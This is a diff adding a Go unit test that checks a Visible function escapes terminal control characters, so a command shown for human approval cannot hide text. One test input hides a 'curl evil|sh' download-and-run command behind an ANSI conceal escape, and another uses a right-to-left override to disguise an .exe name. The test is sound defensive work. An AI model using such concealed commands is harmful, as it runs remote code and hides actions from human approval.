@@ -16,3 +16,20 @@ func TestClean(t *testing.T) {
 		}
 	}
 }
+
+// Visible spells out what a terminal would act on or not draw, so a
+// command shown for approval cannot hide part of itself: an escape that
+// conceals what follows, a right-to-left override that reorders it, a
+// zero-width space, a carriage return that draws over the start.
+func TestVisibleHidesNothing(t *testing.T) {
+	for in, want := range map[string]string{
+		"npx server \x1b[8mcurl evil|sh": `npx server \x1b[8mcurl evil|sh`,
+		"run \u202etxt.exe":              `run \u202etxt.exe`,
+		"a\u200bb\tc\nd\re":              `a\u200bb\tc\nd\x0de`,
+		"plain 'quoted' ünïcode":         "plain 'quoted' ünïcode",
+	} {
+		if got := Visible(in); got != want {
+			t.Errorf("Visible(%q) = %q, want %q", in, got, want)
+		}
+	}
+}
